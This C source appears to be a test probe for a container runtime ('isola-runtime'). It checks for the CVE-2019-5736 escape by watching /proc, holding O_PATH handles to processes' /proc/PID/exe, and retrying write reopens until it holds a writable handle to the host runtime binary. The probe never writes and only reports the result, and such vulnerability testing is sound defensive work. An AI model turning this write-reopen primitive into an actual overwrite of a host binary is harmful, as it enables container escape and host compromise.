/* exeprobe: the CVE-2019-5736 attacker. For SECONDS seconds it watches /proc for processes that are not
 * itself, keeps an O_PATH fd to each one's /proc/PID/exe, and keeps trying to reopen those fds for
 * writing (the trick: the runtime's binary is busy only while it runs; once the runtime execs away the
 * reopen can succeed). It never writes. It prints "VULNERABLE pid dev:ino" when it holds a writable fd to
 * the inode given as DEV:INO (the host's isola-runtime binary), then "done N" with the number of
 * processes it saw. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAXP 4096

int main(int argc, char **argv)
{
	if (argc < 3) {
		fprintf(stderr, "usage: exeprobe SECONDS DEV:INO\n");
		return 2;
	}
	int secs = atoi(argv[1]);
	unsigned long long hdev = strtoull(argv[2], NULL, 10);
	unsigned long long hino = strtoull(strchr(argv[2], ':') + 1, NULL, 10);
	static int fds[MAXP];
	static char seen[MAXP];
	int nfd = 0, nseen = 0, vulnerable = 0;
	pid_t me = getpid();
	time_t end = time(NULL) + secs;
	/* tell the test we are watching (it starts the exec storm after this line) */
	printf("watching\n");
	fflush(stdout);
	while (time(NULL) < end && !vulnerable) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			int pid = atoi(e->d_name);
			if (pid <= 0 || pid == me || pid >= MAXP || seen[pid])
				continue;
			char p[64];
			snprintf(p, sizeof p, "/proc/%d/exe", pid);
			int fd = open(p, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			seen[pid] = 1;
			nseen++;
			if (nfd < MAXP)
				fds[nfd++] = fd;
		}
		if (d)
			closedir(d);
		for (int i = 0; i < nfd; i++) {
			char p[64];
			snprintf(p, sizeof p, "/proc/self/fd/%d", fds[i]);
			int w = open(p, O_WRONLY | O_CLOEXEC);
			if (w < 0)
				continue;
			struct stat st;
			if (fstat(w, &st) == 0 && (unsigned long long)st.st_dev == hdev &&
			    (unsigned long long)st.st_ino == hino) {
				printf("VULNERABLE fd %d dev:ino %llu:%llu\n", fds[i], (unsigned long long)st.st_dev,
				       (unsigned long long)st.st_ino);
				vulnerable = 1;
			}
			close(w);
		}
		usleep(1000);
	}
	printf("done %d\n", nseen);
	return 0;
}
